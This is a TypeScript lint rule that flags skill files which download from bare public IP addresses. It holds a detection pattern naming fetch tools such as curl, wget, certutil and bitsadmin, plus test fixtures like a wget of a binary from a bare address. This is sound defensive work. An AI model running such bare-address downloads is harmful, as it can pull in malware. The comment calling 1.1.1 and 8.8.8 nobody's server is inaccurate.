import type { Range } from '../core/text.ts';
import { findInCommands } from '../skill/shell-lines.ts';
import { SIGN } from '../skill/signs.ts';
import { shows } from './concerns.ts';
import { defineRule } from './rule.ts';

const WORDS = /:\/\/(?:[\w.-]{1,64}@)?\d{1,3}\.\d{1,3}\./;
/** Commands and calls that fetch; an address alone may be a page to read. */
const FETCHES =
  /\b(?:curl|wget|iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString|DownloadFile|certutil|bitsadmin|git\s+clone|pip3?\s+install|npm\s+install|urlopen|urlretrieve|requests\.get|fetch)\b/i;
const ADDRESS =
  /\b(?:https?|ftp):\/\/(?:[\w.-]{1,64}@)?(\d{1,3})\.(\d{1,3})\.(\d{1,3})\.(\d{1,3})(?![\w.])(?::\d{1,5})?(?:\/[^\s"'`)<>]{0,300})?/gi;

/** Networks that are nobody's server: this machine, private ones, link-local, documentation. */
function isReserved(a: number, b: number, c: number): boolean {
  if (a === 0 || a === 10 || a === 127 || a > 255) return true;
  if ((a === 172 && b >= 16 && b < 32) || (a === 192 && b === 168) || (a === 169 && b === 254)) {
    return true;
  }
  const net = `${a}.${b}.${c}`;
  return ['192.0.2', '198.51.100', '203.0.113', '1.2.3', '1.1.1', '8.8.8'].includes(net);
}

function find(line: string): Range | undefined {
  if (!FETCHES.test(line)) return undefined;
  for (const match of line.matchAll(ADDRESS)) {
    const [a, b, c] = [Number(match[1]), Number(match[2]), Number(match[3])];
    if (!isReserved(a, b, c)) return { start: match.index, end: match.index + match[0].length };
  }
  return undefined;
}

export const rawIpDownload = defineRule({
  id: 'raw-ip-download',
  summary: 'Nothing is downloaded from a bare address.',
  why: 'A number instead of a name has no owner that can be looked up and no certificate that vouches for it; malware is spread from such addresses.',
  basis: 'safety',
  source: 'https://attack.mitre.org/techniques/T1105/',
  severity: 'warning',
  fix: 'none',
  messages: {
    address: {
      text: 'This downloads from the bare address {url}.',
      hint: 'Use the name of a host over https.',
    },
  },
  good: [
    '---\nname: demo\n---\n`curl http://127.0.0.1:8080/health`, `curl http://192.0.2.7/a`, http://233.252.0.7/ is a page.\n',
  ],
  bad: [
    '---\nname: demo\n---\n```sh\nwget «http://233.252.0.7/tool.bin» -O tool\n```\n',
    {
      skill: '---\nname: demo\n---\n',
      files: { 'a.py': 'requests.get("«http://233.252.0.7:8080/x»")\n' },
    },
  ],
  concerns: shows(SIGN.command),
  *check(skill) {
    for (const { document, at, text } of findInCommands(skill, WORDS, find)) {
      yield { id: 'address', at, file: document.path, data: { url: text } };
    }
  },
});
